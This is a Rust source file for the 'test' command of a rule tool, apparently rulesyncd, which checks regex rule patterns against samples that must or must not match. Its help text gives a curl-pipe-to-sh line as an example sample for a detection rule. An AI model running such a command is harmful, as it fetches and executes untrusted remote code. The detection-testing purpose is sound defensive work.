//! `rulesyncd test`: runs the patterns of rules on samples.

mod engine;
mod files;
mod python;
mod report;

use std::path::{Path, PathBuf};

use clap::Args;

use super::{Failure, Outcome};
use crate::command::check::ensure_all_read;
use crate::command::print::{print, print_error};
use crate::command::reading::Reading;
use crate::rule::{self, FieldPattern, Sample};
use crate::rulefile::{self, LinkPolicy};
use engine::Engine;
use files::{Targets, Test};
use report::{Report, SampleResult};

/// Run the patterns of rules on samples that they must match and must not match
#[derive(Debug, Args)]
#[command(
    after_help = "Example: rulesyncd test rules/\n\nThe samples of rules/NAME.yaml are in rules/NAME.test.yaml:\n\n  must_match:\n  - curl -s http://198.51.100.7/x | sh\n  must_not_match:\n  - curl -O http://198.51.100.7/x\n\nA sample matches if one of the rule's patterns is found in it, as by re.search. Where a rule has patterns for several fields, each sample names its own: `- url: http://198.51.100.7/x`.\n\nExit codes: 0 every sample is as expected, 1 one is not or a file is invalid, 2 usage, 3 a path could not be read, there is no test, or a pattern needs Python."
)]
pub(crate) struct TestArgs {
    /// Directories of rules, rule files, or test files
    #[arg(required = true)]
    paths: Vec<PathBuf>,
    /// The Python interpreter whose `re` runs the patterns; by default python3 or, without it, the Rust crate
    /// fancy-regex
    #[arg(long, value_name = "PROGRAM")]
    python: Option<PathBuf>,
    /// Print only unexpected results, without the summary at the end
    #[arg(short, long)]
    quiet: bool,
}

/// Why a pattern could not be tried.
#[derive(Debug)]
enum SearchError {
    /// The pattern does not compile, or takes too long on the text.
    Wrong(String),
    /// Only Python's own `re` can run the pattern.
    NeedsPython(String),
    /// The engine ended.
    Engine(anyhow::Error),
}

pub(crate) fn run(args: TestArgs) -> Outcome {
    let targets = Targets::collect(&args.paths).map_err(Failure::Environment)?;
    let mut engine = Engine::choose(args.python).map_err(Failure::Environment)?;
    let mut report = Report::default();
    let reading = Reading::as_configured();
    for test in &targets.tests {
        run_one(test, &reading, &mut engine, &mut report)?;
    }
    print(&if args.quiet { report.differences() } else { report.finish(targets.rules, &engine) })?;
    ensure_all_read(report.unreadable)?;
    if report.failed > 0 || report.invalid > 0 {
        return Err(Failure::CheckFailed);
    }
    if report.not_run > 0 {
        let reason = "not every sample was run: name a Python interpreter with --python";
        return Err(environment!(reason));
    }
    Ok(())
}

/// Runs the samples of one test file on its rule.
fn run_one(test: &Test, reading: &Reading, engine: &mut Engine, report: &mut Report) -> Outcome {
    let Some(rule_path) = &test.rule else {
        report.reject(
            &test.path,
            "there is no rule for it: expected a file of its name without `.test` beside it",
        );
        return Ok(());
    };
    let Some(text) = read(rule_path, reading, report) else { return Ok(()) };
    let Ok(rule) = rule::parse(&text, &reading.limits) else {
        let path = rule_path.display();
        report.reject(rule_path, &format!("the rule is invalid: `rulesyncd check {path}` says why"));
        return Ok(());
    };
    let patterns = FieldPattern::all(&rule.definition.match_spec);
    if patterns.is_empty() {
        report.reject(&test.path, "the rule has no `pattern` that a sample could be run on");
        return Ok(());
    }
    let Some(text) = read(&test.path, reading, report) else { return Ok(()) };
    let samples = match rule::samples(&text, &reading.limits, &patterns) {
        Ok(samples) => samples,
        Err(findings) => {
            report.reject_with(&test.path, &text, &findings);
            return Ok(());
        }
    };
    report.tested += 1;
    for sample in &samples {
        let result = run_sample(sample, &patterns, engine)?;
        report.add(&test.path, sample, result);
    }
    Ok(())
}

/// The match of the first pattern for the sample's field that matches.
fn run_sample<'p>(
    sample: &Sample,
    patterns: &'p [FieldPattern],
    engine: &mut Engine,
) -> Result<SampleResult<'p>, Failure> {
    for pattern in patterns.iter().filter(|pattern| pattern.field == sample.field) {
        match engine.search(&pattern.pattern, &sample.text) {
            Ok(None) => {}
            Ok(Some(found)) => return Ok(SampleResult::Found { pattern, found }),
            Err(SearchError::Wrong(reason)) => return Ok(SampleResult::Wrong { pattern, reason }),
            Err(SearchError::NeedsPython(reason)) => return Ok(SampleResult::NotRun { pattern, reason }),
            Err(SearchError::Engine(error)) => return Err(Failure::Environment(error)),
        }
    }
    Ok(SampleResult::NotFound)
}

/// As the master of the file's directory would read it; the reason why it cannot be read is printed, and the other files
/// are tested all the same.
fn read(path: &Path, reading: &Reading, report: &mut Report) -> Option<Vec<u8>> {
    let links = LinkPolicy::beside(path, &reading.follow_links_to);
    match rulefile::read_within(path, reading.limits.size, &links) {
        Ok(text) => Some(text),
        Err(error) => {
            report.unreadable += 1;
            print_error(&anyhow::Error::from(error).context(path.display().to_string()));
            None
        }
    }
}
